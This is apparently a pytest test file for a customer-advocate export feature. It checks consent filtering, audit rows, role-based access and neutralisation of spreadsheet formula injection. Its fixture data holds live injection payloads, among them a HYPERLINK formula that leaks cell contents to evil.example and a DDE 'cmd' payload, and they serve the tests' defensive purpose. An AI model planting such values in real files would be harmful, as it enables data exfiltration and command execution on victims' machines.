"""Marketing exports: consented customers only, no cell a spreadsheet would run, one audit row each."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, timedelta

import openpyxl
import pandas as pd
import pytest

from cxstats import AccessDenied, CxStatsError, Viewer, advocates, export, store

AS_OF = date(2024, 6, 30)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# name, email, handle chosen to attack a spreadsheet; consent per customer
CUSTOMERS = [
    ("A", '=HYPERLINK("http://evil.example/?"&A1,"click")', "a@example.com", "@ann", True),
    ("B", "+SUM(1,2)", "-2+3@example.com", "=cmd|' /C calc'!A0", True),
    ("C", "Carla Consentless", "c@example.com", "carla", False),
    ("D", "\tTabby", "\rcr@example.com", "-dash", True),
    ("E", "Eve Withdrawn", "e@example.com", "eve", True),  # withdrawn in a later batch
    ("F", "Fay Unknown", "f@example.com", "fay", None),  # consent never given
]


def _load(con, kind, rows):
    df = pd.DataFrame(rows)
    df.insert(0, "row_no", range(2, 2 + len(df)))
    if kind == "purchases":
        df["line_no"] = 1
    if kind == "mentions":
        df["sentiment_source"] = "file"
    store.load_batch(con, kind, {kind: df}, file_name=f"{kind}.csv", sha256=uuid.uuid4().hex, rows=len(df))


@pytest.fixture
def scored(db):
    with store.connect(db) as con:
        _load(
            con,
            "purchases",
            [
                {"customer_id": c, "order_date": AS_OF - timedelta(days=d), "amount": 30.0, "order_id": f"{c}{d}"}
                for c, *_ in CUSTOMERS
                for d in (3, 40)
            ],
        )
        _load(
            con,
            "mentions",
            [
                {
                    "customer_id": c,
                    "posted_at": pd.Timestamp(AS_OF),
                    "text": "=1+1 love it",
                    "followers": 10,
                    "sentiment": 0.7,
                }
                for c, *_ in CUSTOMERS
            ],
        )
        _load(
            con,
            "customers",
            [
                {"customer_id": c, "name": n, "email": e, "handle": h, "marketing_consent": k}
                for c, n, e, h, k in CUSTOMERS
            ],
        )
        _load(con, "customers", [{"customer_id": "E", "name": "Eve Withdrawn", "marketing_consent": False}])
        res = advocates.score(con, viewer=Viewer("marketing"), as_of=AS_OF)
    assert len(res.customers) == len(CUSTOMERS)
    return db, res


def _xlsx_rows(path_or_bytes):
    src = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    wb = openpyxl.load_workbook(src)  # not read_only: data_type tells formulas ('f') apart
    ws = wb.active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} would run as a formula: {cell.value!r}"
    return [[c.value for c in row] for row in ws.iter_rows()]


def _csv_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_safe(rows, numeric_cols=("score", "orders", "spend", "positive posts")):
    header, body = rows[0], rows[1:]
    assert header == list(export.COLUMNS)
    for row in body:
        for col, value in zip(header, row):
            if isinstance(value, str) and col not in numeric_cols:
                assert not value.startswith(DANGEROUS), (col, value)
    return header, body


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_only_consented_and_formula_safe(scored, tmp_path, suffix):
    db, res = scored
    path = tmp_path / f"advocates.{suffix}"
    with store.connect(db) as con:
        out = export.write_advocates(
            con, viewer=Viewer("marketing", name="Mia"), result=res, path=path, filter_text="tier>=Rising"
        )
        audit = con.execute("SELECT export_id, who, role, format, filter, rows, file_name FROM export_audit").fetchall()
    rows = _xlsx_rows(path) if suffix == "xlsx" else _csv_rows(path.read_bytes())
    header, body = _assert_safe(rows)
    emails = {r[header.index("email")].replace("\n", "\r") for r in body}  # XML reads a CR back as LF
    assert emails == {"a@example.com", "'-2+3@example.com", "'\rcr@example.com"}  # not C, E (withdrawn), F
    assert out.rows == 3 and len(body) == 3
    names = [r[header.index("name")] for r in body]
    assert header[0] == "customer_id" and {r[0] for r in body} == {"A", "B", "D"}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names and "'+SUM(1,2)" in names
    assert audit == [(out.export_id, "Mia", "marketing", suffix, "tier>=Rising", 3, path.name)]
    if suffix == "xlsx":  # numbers stay numbers
        for row in body:
            for col in ("score", "orders", "spend", "positive posts"):
                assert isinstance(row[header.index(col)], (int, float)), (col, row)


def test_export_bytes_audits_too(scored):
    db, res = scored
    with store.connect(db) as con:
        data, out = export.export_bytes(con, viewer=Viewer("leader", name="Lee"), result=res, fmt="xlsx", top=2)
        data2, out2 = export.export_bytes(con, viewer=Viewer("admin"), result=res, fmt="csv")
        n = con.execute("SELECT count(*) FROM export_audit").fetchall()[0][0]
    assert n == 2 and out2.export_id == out.export_id + 1
    assert len(_xlsx_rows(data)) == 1 + 2
    _assert_safe(_csv_rows(data2))


@pytest.mark.parametrize("viewer", [Viewer("manager", ("U1",))])
def test_manager_may_not_export(scored, tmp_path, viewer):
    db, res = scored
    with store.connect(db) as con:
        with pytest.raises(AccessDenied):
            export.write_advocates(con, viewer=viewer, result=res, path=tmp_path / "x.csv")
        with pytest.raises(AccessDenied):
            export.export_bytes(con, viewer=viewer, result=res)
        assert con.execute("SELECT count(*) FROM export_audit").fetchall()[0][0] == 0
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize("name", ["x.pdf", "x", "x.xls"])
def test_bad_format_refused_before_writing(scored, tmp_path, name):
    db, res = scored
    with store.connect(db) as con:
        with pytest.raises(CxStatsError, match=r"\.csv or \.xlsx"):
            export.write_advocates(con, viewer=Viewer("admin"), result=res, path=tmp_path / name)
        assert con.execute("SELECT count(*) FROM export_audit").fetchall()[0][0] == 0


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ann", "Ann"),
        ("", ""),
        (" =1", "' =1"),
        (-1, -1),
        (2.5, 2.5),  # " =1": a formula behind spaces is quoted too
    ],
)
def test_neutralise(value, expected):
    assert export.neutralise(value) == expected


def test_cli_out_writes_and_audits(scored, cli_inprocess, tmp_path):
    db, _ = scored
    out = tmp_path / "list.xlsx"
    r = cli_inprocess("advocates", "--as-of", "2024-06-30", "--out", str(out), "--json", db=db)
    assert r.returncode == 0, r.stderr
    _assert_safe(_xlsx_rows(out))
    with store.connect(db) as con:
        audit = con.execute("SELECT who, role, rows, file_name FROM export_audit").fetchall()
    assert audit == [("local admin", "admin", 3, "list.xlsx")]


def test_cli_top_n_export_is_the_top_n_of_the_full_export(scored, cli_inprocess, tmp_path):
    """Only the first rows of the list come back from the engine (score(..., top, keep)); the
    export's top N is still the top N of the consented, not held-out full list."""
    db, _ = scored
    full, top = tmp_path / "full.csv", tmp_path / "top.csv"
    for path, n in ((full, "0"), (top, "2")):
        r = cli_inprocess("advocates", "--as-of", "2024-06-30", "--top", n, "--out", str(path), db=db)
        assert r.returncode == 0, r.stderr
    f, t = _csv_rows(full.read_bytes()), _csv_rows(top.read_bytes())
    assert len(f) > len(t) == 3 and t == f[:3]  # the header and two customers
